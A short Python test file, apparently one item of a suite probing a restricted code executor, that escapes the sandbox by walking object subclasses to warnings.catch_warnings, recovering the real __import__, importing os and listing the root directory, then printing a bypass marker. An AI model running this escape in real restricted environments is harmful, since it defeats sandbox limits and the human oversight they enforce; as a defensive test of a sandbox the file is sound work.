# item 4: warnings.catch_warnings()._module.__builtins__['__import__'].
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "08_catch_warnings_module"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import random  # noqa: F401  (random imports warnings, so catch_warnings exists)

for c in object.__subclasses__():
    if c.__name__ == "catch_warnings":
        imp = c()._module.__builtins__["__import__"]
        won(sorted(imp("os").listdir("/"))[:3])
        break
